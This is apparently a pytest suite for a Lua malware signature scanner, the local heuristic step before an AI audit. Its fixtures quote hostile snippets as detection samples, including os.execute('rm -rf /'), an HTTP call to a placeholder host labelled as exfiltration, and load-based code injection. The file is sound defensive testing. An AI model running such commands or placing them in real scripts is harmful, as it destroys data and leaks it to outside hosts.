"""
Tests for the signature engine (local heuristics run before the AI audit).
"""

import re
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "scripts"))

from models import IssueType, PatternRule, ThreatLevel
from signature_engine import DEFAULT_RULES, SIGNATURE_SUGGESTION, SignatureEngine, line_of


class TestSignatureEngine:
    def setup_method(self):
        self.engine = SignatureEngine()

    def test_clean_script_has_no_issues(self):
        content = 'local function greet(name)\n  print("hello " .. name)\nend\n'
        assert self.engine.scan(content) == []

    def test_deterministic(self):
        content = 'os.execute("id")\nlocal p = "\\x41"\n-- blum panel\n'
        assert self.engine.scan(content) == self.engine.scan(content)

    def test_long_quoted_run_is_obfuscation(self):
        content = 'local k = "' + "A" * 44 + '"'
        issues = self.engine.scan(content)
        assert len(issues) == 1
        assert issues[0].type is IssueType.OBFUSCATION
        assert issues[0].threat_level is ThreatLevel.HIGH
        assert issues[0].description == "Large Base64/Encrypted String."

    def test_short_quoted_run_is_ignored(self):
        content = 'local k = "' + "A" * 39 + '"'
        assert self.engine.scan(content) == []

    def test_os_execute_line_number(self):
        content = "local a = 1\nlocal b = 2\nos.execute('rm -rf /')\n"
        issues = self.engine.scan(content)
        assert len(issues) == 1
        issue = issues[0]
        assert issue.type is IssueType.BACKDOOR
        assert issue.threat_level is ThreatLevel.CRITICAL
        assert issue.line == 3
        assert issue.code_snippet == "os.execute"
        assert issue.suggestion == SIGNATURE_SUGGESTION

    @pytest.mark.parametrize(
        "content, issue_type, threat_level, description",
        [
            ('local p = "\\x41"', IssueType.CIPHER, ThreatLevel.CRITICAL, "Hex-Encoded Payload (Cipher)."),
            ('local p = "\\065"', IssueType.CIPHER, ThreatLevel.CRITICAL, "ASCII Decimal Obfuscation."),
            ("local s = string.char(72, 105)", IssueType.CIPHER, ThreatLevel.HIGH, "Character Array Reconstruction."),
            ('PerformHttpRequest("https://evil.example/x", cb)', IssueType.BACKDOOR, ThreatLevel.HIGH,
             "External Data Exfiltration."),
            ('load("return 1")()', IssueType.BACKDOOR, ThreatLevel.CRITICAL, "Unsafe Dynamic Execution."),
            ("assert(load(chunk))()", IssueType.BACKDOOR, ThreatLevel.CRITICAL, "Asserted Code Injection."),
            ("-- Blum Admin Panel v3", IssueType.BLUM_PANEL, ThreatLevel.CRITICAL, "Malicious Framework Signature."),
            ("_G['hook'] = load", IssueType.OBFUSCATION, ThreatLevel.HIGH, "Global Table Hijacking."),
            ("local r = debug.getregistry()", IssueType.SLEEPER_THREAT, ThreatLevel.CRITICAL,
             "LUA Registry Access (Forensic Red Flag)."),
            ('local h = os.getenv("HOME")', IssueType.BACKDOOR, ThreatLevel.CRITICAL, "System API Intrusion."),
        ],
    )
    def test_each_rule(self, content, issue_type, threat_level, description):
        issues = self.engine.scan(content)
        assert len(issues) == 1
        assert issues[0].type is issue_type
        assert issues[0].threat_level is threat_level
        assert issues[0].description == description
        assert issues[0].line == 1

    def test_case_insensitive_rules(self):
        issues = self.engine.scan("OS.EXECUTE('x')")
        assert [i.type for i in issues] == [IssueType.BACKDOOR]

    def test_every_match_reported(self):
        content = 'local a = "\\x41\\x42\\x43"'
        issues = self.engine.scan(content)
        assert len(issues) == 3
        assert all(i.type is IssueType.CIPHER for i in issues)

    def test_ordered_by_rule_then_position(self):
        content = "os.execute('a')\nlocal p = \"\\x41\"\n"
        issues = self.engine.scan(content)
        # Hex rule is declared before the system API rule
        assert [i.description for i in issues] == ["Hex-Encoded Payload (Cipher).", "System API Intrusion."]
        assert [i.line for i in issues] == [2, 1]
        assert [i.id for i in issues] == ["H-0001", "H-0002"]

    def test_custom_rules(self):
        rule = PatternRule(re.compile(r"TriggerServerEvent"), IssueType.SUSPICIOUS_HTTP, "Event spam.", ThreatLevel.LOW)
        engine = SignatureEngine(rules=[rule])
        issues = engine.scan("TriggerServerEvent('a')\nos.execute('b')")
        assert len(issues) == 1
        assert issues[0].type is IssueType.SUSPICIOUS_HTTP

    def test_empty_rule_table(self):
        assert SignatureEngine(rules=()).scan("os.execute('x')") == []

    def test_default_rules_are_immutable(self):
        assert isinstance(DEFAULT_RULES, tuple)
        assert len(DEFAULT_RULES) == 11


class TestLineOf:
    @pytest.mark.parametrize(
        "content, offset, expected",
        [
            ("abc", 0, 1),
            ("a\nb\nc", 2, 2),
            ("a\nb\nc", 4, 3),
            ("\n\n\nx", 3, 4),
        ],
    )
    def test_line_of(self, content, offset, expected):
        assert line_of(content, offset) == expected
